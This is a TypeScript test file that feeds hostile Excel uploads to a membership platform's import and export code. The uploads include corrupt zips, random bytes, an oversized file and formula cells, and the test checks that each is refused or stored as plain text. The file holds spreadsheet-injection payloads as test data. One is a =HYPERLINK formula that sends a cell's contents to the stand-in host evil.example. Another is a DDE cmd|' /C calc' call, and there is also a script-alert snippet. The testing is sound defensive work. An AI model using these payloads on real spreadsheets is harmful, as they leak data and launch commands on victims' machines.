/**
 * Excel import fed hostile files (issue 9): truncated and random-byte files, a zip that is not a
 * workbook, a file over TJ_IMPORT_MAX_BYTES, formula cells (=HYPERLINK, a DDE `cmd|` call) — each
 * refused with a Chinese message and nothing written (members, organisations and import jobs
 * counted before and after). Text that only looks like a formula (= + - @ at the start) is
 * stored as the text it is, and the export writes it back as a text cell, never as a formula.
 */
import { randomBytes } from 'node:crypto';
import type { PlatformDatabase, Tenant } from '@tuanjian/db';
import ExcelJS from 'exceljs';
import type { Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { env } from '../env';
import { TEMPLATE_COLUMNS } from '../services/imports';
import {
  callerAs,
  demoDatabase,
  errorOf,
  grantsOf,
  type TestDatabase,
  tenantByCode,
  tenantTables,
} from '../test/helpers';

const CJK = /[\u4e00-\u9fff]/;

let database: TestDatabase;
let db: Kysely<PlatformDatabase>;
let chengguan: Tenant;
let branchName: string;

beforeAll(async () => {
  database = await demoDatabase();
  db = database.db;
  chengguan = await tenantByCode(db, 'chengguan');
  const g = (await grantsOf(db, 'chengguan.branch'))[0]!;
  branchName = (
    await tenantTables(db, chengguan)
      .selectFrom('organisations')
      .select('name')
      .where('id', '=', g.scope_org_id!)
      .executeTakeFirstOrThrow()
  ).name;
}, 300_000);

afterAll(async () => {
  await database?.close();
});

async function counts() {
  const t = tenantTables(db, chengguan);
  const n = async (table: 'members' | 'organisations' | 'import_jobs') =>
    Number(
      (
        await t
          .selectFrom(table)
          .select((eb) => eb.fn.countAll<number>().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );
  return {
    members: await n('members'),
    organisations: await n('organisations'),
    jobs: await n('import_jobs'),
  };
}

async function workbook(rows: unknown[][], edit?: (ws: ExcelJS.Worksheet) => void): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('导入');
  ws.addRow(TEMPLATE_COLUMNS.members.map((c) => c.header));
  for (const r of rows) ws.addRow(r);
  edit?.(ws);
  return Buffer.from((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

/** A members row in template order. */
function memberRow(values: Record<string, unknown>): unknown[] {
  return TEMPLATE_COLUMNS.members.map((c) => values[c.key] ?? null);
}

const col = (key: string) => TEMPLATE_COLUMNS.members.findIndex((c) => c.key === key) + 1;

describe('imports: hostile files are refused cleanly, nothing written', () => {
  it('corrupted, random, not-a-workbook, oversized and formula-bearing files', async () => {
    const { caller } = await callerAs(database, 'chengguan.admin');
    const good = await workbook([
      memberRow({ name: '正常行', gender: '男', birthDate: '2004-01-01', org: branchName }),
    ]);
    const formula = (f: string) =>
      workbook(
        [memberRow({ name: '公式行', gender: '男', birthDate: '2004-01-01', org: branchName })],
        (ws) => {
          ws.getCell(2, col('name')).value = { formula: f, result: '点我' } as ExcelJS.CellFormulaValue;
        },
      );
    const cases: [string, Buffer | string][] = [
      ['truncated (half a zip)', good.subarray(0, Math.floor(good.length / 2))],
      ['truncated (last byte gone)', good.subarray(0, good.length - 1)],
      ['random bytes', randomBytes(64 * 1024)],
      [
        'random bytes after a zip signature',
        Buffer.concat([Buffer.from('PK\u0003\u0004'), randomBytes(4096)]),
      ],
      ['an empty file', Buffer.alloc(0)],
      ['zeros', Buffer.alloc(10_000)],
      ['HTML named .xlsx', Buffer.from('<html><script>alert(1)</script></html>')],
      ['=HYPERLINK formula', await formula('HYPERLINK("http://evil.example/?x="&A1,"点我")')],
      ['DDE formula', await formula("cmd|' /C calc'!A0")],
      ['shared/array formula', await formula('SUM(1,2)')],
      ['not base64 at all', '%%%不是base64%%%'],
      [
        'over TJ_IMPORT_MAX_BYTES',
        Buffer.concat([good, Buffer.alloc(env.TJ_IMPORT_MAX_BYTES + 1 - good.length)]),
      ],
    ];
    const before = await counts();
    for (const [label, bytes] of cases) {
      const contentBase64 = typeof bytes === 'string' ? bytes : bytes.toString('base64');
      const err = await errorOf(
        caller.imports.upload({ kind: 'members', fileName: '团员.xlsx', contentBase64 }),
      );
      expect(err, label).not.toBeNull();
      expect(err!.code, `${label}: ${err!.message}`).toBe('BAD_REQUEST');
      expect(err!.message, label).toMatch(CJK);
      if (label.includes('formula')) expect(err!.message, label).toContain('公式');
      if (label.startsWith('over')) expect(err!.message).toContain('文件过大');
      // The same for the organisations import.
      const orgErr = await errorOf(
        caller.imports.upload({ kind: 'organisations', fileName: '组织.xlsx', contentBase64 }),
      );
      expect(orgErr?.code, `organisations: ${label}`).toBe('BAD_REQUEST');
      expect(orgErr!.message).toMatch(CJK);
    }
    expect(await counts()).toEqual(before);
  });

  it('text that looks like a formula is stored as text and exported as a text cell, never a formula', async () => {
    const { caller } = await callerAs(database, 'chengguan.admin');
    const names = [
      '=HYPERLINK("http://evil.example","点我")',
      '+1+1',
      '-2+3',
      '@SUM(1,2)',
      "=cmd|' /C calc'!A0",
    ];
    const bytes = await workbook(
      names.map((name, i) =>
        memberRow({
          name,
          gender: '女',
          birthDate: '2004-03-04',
          memberNumber: `20196299010${i}`,
          org: branchName,
        }),
      ),
    );
    const before = await counts();
    const job = await caller.imports.upload({
      kind: 'members',
      fileName: '公式样文本.xlsx',
      contentBase64: bytes.toString('base64'),
    });
    let status = job.status;
    for (let i = 0; i < 20 && status === 'running'; i++)
      status = (await caller.imports.process({ jobId: job.id })).status;
    const done = await caller.imports.get({ jobId: job.id });
    expect(done, JSON.stringify(done.errors)).toMatchObject({ createdRows: names.length, errorRows: 0 });
    expect((await counts()).members).toBe(before.members + names.length);
    const t = tenantTables(db, chengguan);
    const stored = await t.selectFrom('members').select('name').where('name', 'in', names).execute();
    expect(stored.map((m) => m.name).sort()).toEqual([...names].sort());

    const file = await caller.imports.exportMembers({ q: undefined });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(file.base64, 'base64') as unknown as ArrayBuffer);
    const seen: string[] = [];
    for (const ws of wb.worksheets)
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${cell.address} ${String(cell.value)}`).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeFalsy();
          if (typeof cell.value === 'string' && names.includes(cell.value)) seen.push(cell.value);
        }),
      );
    expect(seen.sort()).toEqual([...names].sort());
  });
});
